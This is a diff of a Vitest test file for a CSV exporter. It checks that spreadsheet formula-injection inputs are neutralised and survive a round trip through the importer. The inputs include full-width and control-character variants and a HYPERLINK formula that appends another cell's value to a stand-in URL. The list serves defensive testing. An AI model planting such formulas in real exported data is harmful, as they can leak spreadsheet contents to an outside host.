@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { textToSheet } from '#web/features/imports/read-sheet.ts';
 import { csvText } from '#web/lib/csv.ts';
 
 describe('a CSV file', () => {
@@ -8,14 +9,38 @@ describe('a CSV file', () => {
     );
   });
 
-  it.each(['=1+1', '+62812', '-1', '@SUM(A1)', '\t=1+1', '\r=1+1'])('turns a formula into text: %j', (name) => {
-    expect(
-      csvText([{ Nama: name }])
-        .split('\r\n')
-        .slice(1)
-        .join('\r\n'),
-    ).toMatch(/^"?'/);
+  const formulas = [
+    '=1+1',
+    '+62812',
+    '-1',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    '=HYPERLINK(\n"http://contoh.id/"&B2,"klik")',
+    '=1\r\n+1',
+    '+1\u2028+1',
+  ];
+
+  it.each(formulas)('turns a formula into text: %j', (name) => {
+    expect(csvText([{ Nama: name }]).replace('\uFEFFNama\r\n', '')).toMatch(/^"'/);
   });
+
+  // A tab within a text would make it one that was copied from a spreadsheet.
+  it.each(formulas.filter((name) => !name.includes('\t')))(
+    'comes in again without the quote that made it text: %j',
+    (name) => {
+      const cell = name.replaceAll(/\r\n?/g, '\n').trim();
+      expect(textToSheet(csvText([{ Nama: name, Kamar: '101' }]))).toEqual([
+        ['Nama', 'Kamar'],
+        [cell, '101'],
+      ]);
+    },
+  );
 
   it('keeps commas, quotes and line breaks within their cell', () => {
     expect(csvText([{ Nama: 'Kost "Asri", Blok A\nlantai 2', Kamar: 4 }])).toBe(
